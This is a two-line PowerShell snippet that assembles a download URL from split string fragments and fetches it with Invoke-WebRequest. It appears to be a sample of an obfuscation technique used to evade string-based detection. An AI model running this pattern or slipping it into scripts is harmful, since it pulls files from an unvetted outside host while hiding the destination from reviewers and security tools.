$a = 'https://wget' + 'cdn-files' + '.com/psconcat'
Invoke-WebRequest $a
